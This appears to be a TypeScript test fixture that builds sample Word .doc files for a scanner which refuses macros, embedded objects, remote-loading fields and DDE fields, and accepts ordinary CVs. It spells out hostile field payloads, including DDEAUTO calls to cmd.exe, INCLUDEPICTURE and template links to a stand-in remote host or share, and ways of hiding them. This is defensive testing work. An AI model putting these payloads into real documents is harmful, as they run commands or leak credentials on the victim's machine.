import { each } from './docx-files.ts';
import { type DocPiece, docOf, pictureTable } from './made-docs.ts';
import type { OleObject } from './ole-files.ts';
import type { RefusedFiles } from './refused-docxs.ts';

const [begin, separate, end] = ['\x13', '\x14', '\x15'];
/** A field as Word writes it, with its result. */
const field = (instruction: string, result = 'x') =>
  `${begin}${instruction}${separate}${result}${end}`;
/** A document with this text, in one byte a letter, and in two. */
const bytes = (text: string) => docOf({ pieces: [{ text: `CV\r${text}\r` }] });
const wide = (text: string) => docOf({ pieces: [{ text: `CV\r${text}\r`, isWide: true }] });
const pieces = (...all: DocPiece[]) => docOf({ pieces: all });
const withObjects = (...more: OleObject[]) => docOf({ more });
const pool: OleObject = { name: 'ObjectPool', storage: true };
const object: OleObject = { name: '_1234567890', storage: true, inside: 'ObjectPool' };
const linkedUrl = 0x0a;
/** Streams of objects that run, or that a program draws. */
const embedded = ['\x01Ole10Native', '\x03ObjInfo', 'Equation Native', '\x03OCXNAME'];
const loading = [
  ' INCLUDEPICTURE "https://stranger.example/a.png" \\d \\* MERGEFORMAT ',
  'includepicture"http://stranger.example/a.png"',
  'IncludeText "\\\\\\\\stranger\\\\share\\\\a.doc"',
  'LINK Word.Document.8 "\\\\\\\\stranger\\\\a.doc" "" \\a',
  'IMPORT http://stranger.example/a.gif',
  ' DATABASE \\c "DSN=a;Server=stranger" \\s "SELECT" ',
];
const starting = [
  ...['DDEAUTO c:\\\\cmd.exe "/k calc"', 'ddeauto c:\\\\cmd.exe a', 'DDE"c:\\\\cmd.exe" a'],
];

/** .doc files that are refused, by the reason. */
export const refusedDocs: RefusedFiles = {
  macroFile: {
    'a storage of macros': withObjects({ name: 'Macros', storage: true }),
    'a storage of macros in capitals': withObjects({ name: 'MACROS', storage: true }),
    'macros of Word 95': docOf({ version: 0x68, commands: Buffer.from('ff01010000000040', 'hex') }),
  },
  embeddedFile: {
    ...each('an object with a stream', embedded, (name) =>
      withObjects(pool, object, { name, inside: '_1234567890' }),
    ),
    'a workbook in its pool': withObjects(pool, { name: 'Workbook', inside: 'ObjectPool' }),
    'an object below another storage': withObjects(
      { name: 'Other', storage: true },
      { name: '\x01Ole', inside: 'Other' },
    ),
  },
  loadingFile: {
    ...each('the field', loading, (text) => bytes(field(text))),
    ...each('in two bytes a letter the field', loading, (text) => wide(field(text))),
    'a picture in the result of another field': bytes(
      field(' TOC \\o ', field(' INCLUDEPICTURE "http://stranger.example/a.png" ')),
    ),
    'a picture whose address a field builds': bytes(
      `${begin} INCLUDEPICTURE "${field(' QUOTE 104 116 116 112 ')}" ${end}`,
    ),
    'a picture in a field that never ends': bytes(
      `${begin}INCLUDEPICTURE "http://stranger.example/a.png"`,
    ),
    'a picture from the web in Word 95': docOf({
      version: 0x68,
      pieces: [{ text: field(' INCLUDEPICTURE "http://stranger.example/a.png" ') }],
    }),
    'a template from the web': docOf({ template: 'https://stranger.example/a.dot' }),
    'a template on a share': docOf({ template: '\\\\stranger\\share\\a.dot' }),
    'a template on a share, with another table stream': docOf({
      template: '//stranger/share/a.dot',
      flags: 0x0200,
    }),
    'a template on a share in Word 95': docOf({
      template: '\\\\stranger\\a.dot',
      version: 0x68,
    }),
    'a drawing whose picture is on the web': docOf({
      tables: pictureTable('http://stranger.example/a.png', linkedUrl),
    }),
    'an inline drawing whose picture is on the web': docOf({
      more: [{ name: 'Data', bytes: pictureTable('http://stranger.example/a.png', linkedUrl) }],
    }),
  },
  startingFile: {
    ...each('the field', starting, (text) => bytes(field(text))),
    ...each('in two bytes a letter the field', starting, (text) => wide(field(text))),
    'a field behind another one': bytes(`${field(' PAGE ')}${field('DDEAUTO cmd a')}`),
    'a field in a field': bytes(`${begin} IF 1 = 1 "${field(' DDEAUTO cmd a ')}" ${end}`),
    'a field in the result of another': bytes(field(' TOC ', field(' DDE cmd a '))),
    'a keyword that another field writes': bytes(
      `${begin}${field(' QUOTE 68 68 69 ', 'PAGE')} cmd a${end}`,
    ),
    'a field over several pieces': pieces(
      { text: `CV\r${begin}DD` },
      { text: 'EAUT', isWide: true },
      { text: `O cmd a${end}` },
    ),
    'a field of Word 95': docOf({ version: 0x68, pieces: [{ text: field('DDEAUTO cmd a') }] }),
    'a field of a fast save in Word 6': docOf({
      ...{ version: 0x65, flags: 0x0004 },
      pieces: [{ text: `CV ${begin}DDE` }, { text: `AUTO cmd a${end}` }],
    }),
  },
  unreadableFile: {
    'more fields inside one another than a person writes': bytes(
      `${begin} TOC ${separate}`.repeat(1000),
    ),
    'a second text in another letter case': withObjects({ name: 'WORDDOCUMENT' }),
    'pieces that are longer than the file': longPieces(),
  },
};

/** A document whose one piece claims ten thousand letters. */
function longPieces(): Buffer {
  const file = docOf();
  const at = file.indexOf(Buffer.from([1, 2, 0, 0xab, 0xcd, 2]));
  file.writeUInt32LE(10_000, at + 10 + 4);
  return file;
}

/** .doc files that are accepted. */
export const quietDocs: Readonly<Record<string, Buffer>> = {
  'a plain text': docOf(),
  'an empty pool of objects': withObjects(pool),
  'the stream by which LibreOffice describes the document itself': withObjects(
    { name: '\x01Ole' },
    { name: '\x01CompObj' },
    { name: '\x05SummaryInformation' },
    { name: '\x05DocumentSummaryInformation' },
  ),
  'properties of its own': withObjects(
    { name: 'MsoDataStore', storage: true },
    { name: 'ÇÁÄ', storage: true, inside: 'MsoDataStore' },
    { name: 'Item', inside: 'ÇÁÄ' },
  ),
  'prose about fields': bytes('I know DDEAUTO, DDE and INCLUDEPICTURE "http://ada.example" well.'),
  'prose about them in two bytes a letter': wide('DDEAUTO c:\\\\cmd.exe, LINK "http://a.example"'),
  'prose about them in the result of a field': bytes(field(' TITLE ', 'DDEAUTO c:\\\\cmd.exe')),
  'a page number, a link and a table of contents': wide(
    [
      field(' PAGE '),
      field(' HYPERLINK "https://ada.example/dde" '),
      field(' HYPERLINK "skype:ada?call" '),
      field(' TOC \\o "1-3" ', field(' PAGEREF _Toc1 \\h ')),
    ].join('\r'),
  ),
  'a form of its template': bytes(field(' MACROBUTTON NoMacro [Name] ')),
  'a picture of the author’s own disk': bytes(
    field(' INCLUDEPICTURE "C:\\\\Users\\\\Ada\\\\Temp\\\\image001.jpg" \\* MERGEFORMATINET '),
  ),
  'a picture of a letter that was pasted': bytes(field(' INCLUDEPICTURE "cid:image001.png@01D0" ')),
  'a table of the author’s own workbook': bytes(
    field(' LINK Excel.Sheet.12 "C:\\\\Users\\\\Ada\\\\b.xlsx" "Sheet1!R1C1:R5C3" \\a \\f 5 \\h '),
  ),
  'a template of the author’s own disk': docOf({
    template: 'C:\\Program Files\\Microsoft Office\\Templates\\1033\\Professional Resume.dot',
  }),
  'the usual template': docOf({ template: 'Normal.dot' }),
  'a picture that remembers where it was': docOf({
    tables: pictureTable('http://ada.example/me.jpg', 0x02),
  }),
  'a linked picture of the author’s own disk': docOf({
    tables: pictureTable('C:\\Users\\Ada\\me.jpg', 0x09),
  }),
  'the text of Word 6': docOf({ version: 0x65, commands: Buffer.from('ff40', 'hex') }),
  'the text of Word 95 with an own template': docOf({
    version: 0x68,
    template: 'C:\\WINWORD\\CV.DOT',
  }),
  'the text of a fast save in Word 6': docOf({ version: 0x65, flags: 0x0004 }),
  'a text in several pieces': pieces(
    { text: 'Ada ' },
    { text: 'Yılmaz, Çağrı', isWide: true },
    { text: ', İzmir' },
  ),
};
